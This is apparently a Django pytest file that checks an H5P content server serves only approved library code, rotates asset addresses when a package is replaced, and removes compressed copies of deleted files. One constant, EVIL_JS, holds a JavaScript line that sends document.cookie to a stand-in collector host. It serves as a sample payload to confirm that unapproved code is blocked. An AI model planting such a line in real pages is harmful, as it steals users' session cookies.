"""Only approved code is served, a replaced package gets new addresses at once, and the
compressed copies of deleted files go with them."""

import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from accounts.models import Organisation
from h5p.assets import asset_base_url, library_digest
from h5p.libraries import library_install, library_refuse
from h5p.packaging import check_content, pack
from h5p.player import play_token
from h5p.services import package_import
from tests.factories import UserFactory
from tests.h5p import synthetic

pytestmark = pytest.mark.django_db

EVIL_JS = b"fetch('https://collector.invalid/?c=' + document.cookie);"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def trainer_lviv(db):
    return UserFactory(
        nickname="trainer-l", organisation=Organisation.objects.create(slug="lviv"), role="Trainers"
    )


def upload(data, user=None, title="Вибір"):
    return package_import(file=io.BytesIO(data), title=title, language="uk", user=user)


def lasting_url(library, path="scripts/main.js"):
    return f"/h5p/assets/lib/{library}/{library_digest(library)}/{path}"


def body(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def wire_files(media: Path, folder: str):
    root = media / "h5p" / "wire" / folder
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def test_library_code_waiting_for_approval_or_refused_is_never_served(client, trainer_lviv):
    installed = upload(synthetic.package(title="Встановлений"))  # the server's operator: installed at once
    shared = installed.libraries.get(machine_name="H5P.SharedLib")
    evil = upload(synthetic.package(libraries=synthetic.chain(shared_js=EVIL_JS)), user=trainer_lviv)
    waiting = evil.libraries.get(machine_name="H5P.SharedLib")

    assert evil.awaiting_approval and waiting != shared
    assert client.get(lasting_url(shared)).status_code == 200
    assert client.get(lasting_url(waiting)).status_code == 404  # waiting: its address leads nowhere
    # ...nor does the package's own token, nor its player document
    assert client.get(asset_base_url(evil) + "content/content.json").status_code == 404
    assert client.get(f"/h5p/play/{play_token(evil, None)}/").status_code == 404

    library_refuse(library=waiting, user=None)

    assert client.get(lasting_url(waiting)).status_code == 404  # refused: still nothing
    evil.refresh_from_db()  # it now plays the installed code
    assert client.get(asset_base_url(evil) + "content/content.json").status_code == 200


def test_an_installed_library_is_served_and_the_patch_it_replaced_still_is(client, trainer_lviv):
    old = upload(synthetic.package())
    old_shared = old.libraries.get(machine_name="H5P.SharedLib")
    newer = upload(
        synthetic.package(libraries=synthetic.chain(shared_version=(1, 0, 3), shared_js=b"var v103 = 1;")),
        user=trainer_lviv,
    )
    new_shared = newer.libraries.get(machine_name="H5P.SharedLib")
    assert client.get(lasting_url(new_shared)).status_code == 404

    library_install(library=new_shared, user=None)

    assert body(client.get(lasting_url(new_shared))) == "var v103 = 1;"
    # A library.json a browser kept from this morning may still name the replaced patch.
    assert client.get(lasting_url(old_shared)).status_code == 200


def test_a_replaced_package_gets_new_addresses_at_once(client, media, django_capture_on_commit_callbacks):
    admin = UserFactory(nickname="root", is_superuser=True, is_staff=True)
    content = upload(pack("Тест", check_content("Старе питання?", [("Так", True), ("Ні", False)])))
    old_base = asset_base_url(content)
    assert "Старе питання?" in body(client.get(old_base + "content/content.json"))
    old_path = content.storage_path
    assert wire_files(media, old_path)  # compressed copies were made for the first open

    client.force_login(admin)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/admin/interactive/{content.pk}/",
            {
                "action": "replace",
                "package": SimpleUploadedFile(
                    "v2.h5p", pack("Тест", check_content("Нове питання?", [("Так", True), ("Ні", False)]))
                ),
            },
        )
    assert response.status_code == 302

    content.refresh_from_db()
    new_base = asset_base_url(content)
    assert new_base != old_base  # the same day, yet an address no browser has kept
    assert "Нове питання?" in body(client.get(new_base + "content/content.json"))
    assert client.get(old_base + "content/content.json").status_code == 404
    assert not wire_files(media, old_path)  # the old version's compressed copies are gone too


def test_deleting_a_package_deletes_its_compressed_copies(client, media, django_capture_on_commit_callbacks):
    admin = UserFactory(nickname="root", is_superuser=True, is_staff=True)
    content = upload(pack("Тест", check_content("Питання?", [("Так", True), ("Ні", False)])))
    client.get(asset_base_url(content) + "content/content.json")
    path = content.storage_path
    assert wire_files(media, path)

    client.force_login(admin)
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(f"/admin/interactive/{content.pk}/", {"action": "delete"}).status_code == 302

    assert not wire_files(media, path)


def test_housekeeping_removes_compressed_copies_whose_package_is_gone(client, media):
    kept = upload(pack("Лишається", check_content("Питання?", [("Так", True), ("Ні", False)])))
    gone = upload(
        pack("Зникає", check_content("Інше питання?", [("Так", True), ("Ні", False)])), title="Зникає"
    )
    for content in (kept, gone):
        client.get(asset_base_url(content) + "content/content.json")
    gone_path = gone.storage_path
    gone.delete()  # as if the server stopped before the files were deleted
    output = io.StringIO()

    call_command("housekeeping", stdout=output)

    assert "1 orphaned H5P compressed copies removed" in output.getvalue()
    assert not wire_files(media, gone_path)
    assert wire_files(media, kept.storage_path)
    assert client.get(asset_base_url(kept) + "content/content.json").status_code == 200
